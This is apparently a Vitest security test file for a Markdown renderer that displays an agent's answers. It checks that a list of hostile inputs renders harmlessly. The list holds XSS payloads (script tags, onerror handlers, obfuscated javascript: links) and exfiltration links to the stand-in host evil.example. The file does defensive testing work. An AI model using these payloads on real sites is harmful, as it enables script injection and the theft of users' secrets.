// @vitest-environment happy-dom
import { Tooltip } from 'radix-ui'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import MarkdownBody from './markdown-body.tsx'
import { WishProvider } from './workspace-wish.tsx'

const draw = (text: string, growing = true): HTMLElement => {
  const place = document.createElement('div')
  place.innerHTML = renderToStaticMarkup(
    <Tooltip.Provider>
      <WishProvider value={() => {}}>
        <MarkdownBody text={text} growing={growing} />
      </WishProvider>
    </Tooltip.Provider>,
  )
  return place
}

/** What attacks an answer's reader: code, foreign requests, forged controls. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">here</a>',
  '<form action="https://evil.example"><input name="token"><button>Sign in</button></form>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '<div style="position:fixed;inset:0">cover</div>',
  '![x](https://evil.example/steal?d=secret)',
  '![x][r]\n\n[r]: https://evil.example/steal',
  '![](data:image/svg+xml;base64,PHN2Zz4=)',
  '[go](javascript:alert(1))',
  '[go](JAVASCRIPT:alert(1) "t")',
  '[go](java&#10;script:alert(1))',
  '[go](&#106;avascript:alert(1))',
  '[go](data:text/html,<script>alert(1)</script>)',
  '[go](//evil.example/x)',
  '[go][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[a](https://ok.example "onmouseover=alert(1)")',
  '[a](https://ok.example"onmouseover="alert(1))',
  '`</code><script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  'text <b onmouseover=alert(1)>bold</b> text',
]

const ALLOWED = new Set(
  'DIV P SPAN A BUTTON SVG PATH RECT G CIRCLE CODE PRE UL OL LI STRONG EM DEL H1 H2 H3 H4 H5 H6 BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD SUP SUB SECTION INPUT'.split(
    ' ',
  ),
)

function harmOf(place: HTMLElement): string[] {
  return [...place.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toUpperCase()
    const found: string[] = ALLOWED.has(tag) ? [] : [`<${tag}>`]
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name)) found.push(`${tag} ${name}`)
      if (/^(src|srcset|srcdoc|action|formaction|data|poster|background|xlink:href|ping)$/i.test(name))
        found.push(`${tag} ${name}=${value}`)
      if (name === 'href' && !/^(https?:|mailto:)/.test(value)) found.push(`${tag} href=${value}`)
      if (name === 'style' && !/^text-align:\s*\w+;?$/.test(value)) found.push(`${tag} style=${value}`)
    }
    if (tag === 'INPUT' && element.getAttribute('type') !== 'checkbox') found.push('INPUT')
    return found
  })
}

describe('an answer is drawn', () => {
  test.each(HOSTILE)('[SECURITY 24] without harm, at every point of its arrival: %j', (payload) => {
    const text = `Before. ${payload} After.\n\n${payload}\n\nThe end.`
    for (let at = 0; at <= text.length; at++)
      expect({ at, harm: harmOf(draw(text.slice(0, at))) }).toEqual({ at, harm: [] })
    expect(harmOf(draw(text, false))).toEqual([])
  })

  test('[SECURITY 24] the check itself finds harm where there is some', () => {
    const place = document.createElement('div')
    place.innerHTML = '<img src="https://evil.example"><a href="javascript:x" onclick="x">x</a><iframe></iframe>'
    expect(harmOf(place)).toHaveLength(5)
  })

  test('what an agent writes as HTML is shown as the text that it is', () => {
    expect(draw('a <b>bold</b> word').textContent).toContain('<b>bold</b>')
  })

  test('Markdown is drawn: headings, lists, tables, code, links and rows', () => {
    const place = draw(
      '## Late\n\n- **one** `x`\n- two\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n[site](https://ok.example) [row 17](#row:17)\n\n```js\nlet a\n```',
    )
    expect(place.querySelector('h2')?.textContent).toBe('Late')
    expect(place.querySelectorAll('li')).toHaveLength(2)
    expect(place.querySelector('td:last-child')?.getAttribute('style')).toContain('right')
    expect(place.querySelector('pre')?.textContent).toBe('let a\n')
    const link = place.querySelector('a')
    expect(link?.getAttribute('href')).toBe('https://ok.example/')
    expect(link?.getAttribute('rel')).toContain('noopener')
    expect([...place.querySelectorAll('button')].map((b) => b.textContent)).toContain('row 17')
  })

  test('a picture is named, never fetched', () => {
    const place = draw('![our logo](https://evil.example/logo.png)')
    expect(place.textContent).toContain('image, not loaded: our logo')
    expect(place.innerHTML).not.toContain('evil.example')
  })

  test('what is not closed yet is drawn as if it were, without marks that come and go', () => {
    expect(draw('this is **importa').querySelector('strong')?.textContent).toBe('importa')
    expect(draw('see [the rows](https://ok.exam').textContent).not.toContain('](')
  })
})
